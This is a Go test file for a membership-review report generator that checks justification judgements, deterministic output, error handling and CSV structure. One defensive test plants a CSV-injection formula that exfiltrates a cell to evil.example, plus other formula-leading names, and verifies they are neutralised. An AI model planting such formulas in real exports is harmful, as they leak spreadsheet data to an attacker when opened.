package review

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/teamsync/teamsync/sync/model"
)

func TestReportGolden(t *testing.T) {
	f := newFixture()
	cases := []struct {
		name string
		in   ReportInput
	}{
		{"report", ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now}},
		{"report-ios-no-people", ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, Now: now, Teams: []string{"ios"}}},
	}
	for _, tc := range cases {
		for _, format := range []struct{ name, ext string }{{FormatMarkdown, "md"}, {FormatCSV, "csv"}, {FormatJSON, "json"}} {
			t.Run(tc.name+"."+format.ext, func(t *testing.T) {
				var buf bytes.Buffer
				if err := WriteReport(&buf, BuildReport(tc.in), format.name); err != nil {
					t.Fatal(err)
				}
				golden(t, tc.name+"."+format.ext, buf.Bytes())
			})
		}
	}
}

// TestReportFacts checks the judgements the goldens show, one by one, so
// that a golden accepted by mistake does not hide a wrong one.
func TestReportFacts(t *testing.T) {
	f := newFixture()
	r := BuildReport(ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now})
	type fact struct{ team, email, justification, next string }
	facts := []fact{
		{"platform", "alice@acme.com", Justified, NextRaise}, // rewritten from corp.acme.com, and nested
		{"platform", "bob@acme.com", Justified, NextDemote},  // maintainer held, member granted
		{"platform", "contractor@acme.com", Unjustified, NextRemove},
		{"platform", "dan@acme.com", Unjustified, NextRemove},
		{"platform", "ci-bot@acme.com", Unjustified, ""}, // protected
		{"ios", "gina@acme.com", Unjustified, ""},        // additive
		{"ios", "bob@acme.com", Justified, ""},           // additive keeps the higher role
		{"security", "hank@acme.com", Unjustified, ""},   // observe
		{"data", "ken@acme.com", Unknown, ""},            // okta:Data failed: never unjustified
		{"data", "judy@acme.com", Justified, ""},
		{"security", "ivy@acme.com", Justified, ""}, // observe: a raise is not applied
	}
	for _, want := range facts {
		m, ok := findMember(r, want.team, want.email)
		if !ok {
			t.Errorf("%s %s: not in the report", want.team, want.email)
			continue
		}
		if m.Justification != want.justification || m.NextApply != want.next {
			t.Errorf("%s %s: %s, next %q; want %s, next %q (%s)", want.team, want.email,
				m.Justification, m.NextApply, want.justification, want.next, m.Note)
		}
	}
	var stays []string
	for _, x := range r.Unjustified {
		stays = append(stays, x.Team+" "+x.Email)
	}
	if got, want := strings.Join(stays, ", "), "ios bob@acme.com, ios gina@acme.com, platform ci-bot@acme.com, security hank@acme.com"; got != want {
		t.Errorf("unjustified who stay: %s; want %s", got, want)
	}
	status := map[string]string{}
	for _, tr := range r.Teams {
		status[tr.Team] = tr.Status
	}
	if status["web"] != TeamMissing || status["legacy"] != TeamMissing || status["infra"] != TeamReadFailed {
		t.Errorf("team statuses: %v", status)
	}
	if len(r.Admins) != 2 || r.Admins[0].Email != "ops@acme.com" || !r.AdminsRead {
		t.Errorf("admins: %+v", r.Admins)
	}
}

// TestReportDeterministic checks that two reports of the same state are
// byte-identical, whatever the map iteration order.
func TestReportDeterministic(t *testing.T) {
	f := newFixture()
	in := ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now}
	for _, format := range []string{FormatMarkdown, FormatCSV, FormatJSON} {
		var first bytes.Buffer
		if err := WriteReport(&first, BuildReport(in), format); err != nil {
			t.Fatal(err)
		}
		for range 20 {
			var again bytes.Buffer
			if err := WriteReport(&again, BuildReport(in), format); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(first.Bytes(), again.Bytes()) {
				t.Fatalf("%s: two reports of one state differ", format)
			}
		}
	}
}

// TestReportEmpty checks that nothing at all still renders, with lists as
// [] in JSON.
func TestReportEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := BuildReport(ReportInput{}).WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	want := "{\n  \"organization\": \"\",\n  \"teams\": [],\n  \"unjustified\": [],\n  \"admins_read\": false,\n  \"admins\": [],\n  \"invitations\": []\n}\n"
	if buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}

func TestReportErrors(t *testing.T) {
	r := BuildReport(ReportInput{})
	if err := WriteReport(&bytes.Buffer{}, r, "yaml"); err == nil || !strings.Contains(err.Error(), `unknown report format "yaml"`) {
		t.Errorf("unknown format: %v", err)
	}
	var nilReport *Report
	if err := nilReport.WriteCSV(&bytes.Buffer{}); !errors.Is(err, errNilReport) {
		t.Errorf("nil report: %v", err)
	}
	if err := r.WriteMarkdown(failWriter{}); !errors.Is(err, errDiskFull) {
		t.Errorf("failing writer: %v", err)
	}
}

// findMember finds a membership in the report.
func findMember(r *Report, team, email string) (MemberReport, bool) {
	for _, tr := range r.Teams {
		if tr.Team != team {
			continue
		}
		for _, m := range tr.Members {
			if m.Email == email {
				return m, true
			}
		}
	}
	return MemberReport{}, false
}

var errDiskFull = errors.New("disk full")

// failWriter fails every write.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }

// TestReportCSVFilters checks that the CSV reads back with every row as
// wide as the header, so that a spreadsheet filter on a column works.
func TestReportCSVFilters(t *testing.T) {
	f := newFixture()
	var buf bytes.Buffer
	if err := BuildReport(ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now}).WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll() // refuses rows of another width
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	for _, r := range rows[1:] {
		kinds[r[0]]++
	}
	want := map[string]int{KindMember: 14, KindTeamError: 3, KindAdmin: 2, KindInvitation: 3}
	if !reflect.DeepEqual(kinds, want) {
		t.Errorf("rows by kind %v, want %v", kinds, want)
	}
}

// TestReportCSVNeutralisesFormulas: the report's CSV is the file an auditor
// opens in a spreadsheet, and it carries Buildkite display names, which
// each user sets for themselves: an admin named =HYPERLINK(…) must not
// become a live formula. Cells that start with = + - @ (or tab/CR) get a
// leading ', as OWASP's CSV injection guidance says.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture()
	evil := `=HYPERLINK("https://evil.example/?"&D2,"click")`
	f.people.Members["mallory@acme.com"] = model.Member{ID: "om-m", UserID: "u-m", Email: "mallory@acme.com", Name: evil, Role: model.OrgRoleAdmin, CreatedAt: now}
	for i, name := range []string{"+1", "-1", "@SUM(A1)", "\tx", "\rx"} {
		email := string(rune('a'+i)) + "-admin@acme.com"
		f.people.Members[email] = model.Member{ID: "om-" + email, UserID: "u-" + email, Email: email, Name: name, Role: model.OrgRoleAdmin, CreatedAt: now}
	}
	var buf bytes.Buffer
	if err := WriteReport(&buf, BuildReport(ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now}), FormatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if len(cell) > 0 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell starts a formula: %q", cell)
			}
		}
		names[row[4]] = true
	}
	for _, want := range []string{"'" + evil, "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"} {
		if !names[want] {
			t.Errorf("no name cell %q in the CSV", want)
		}
	}
}
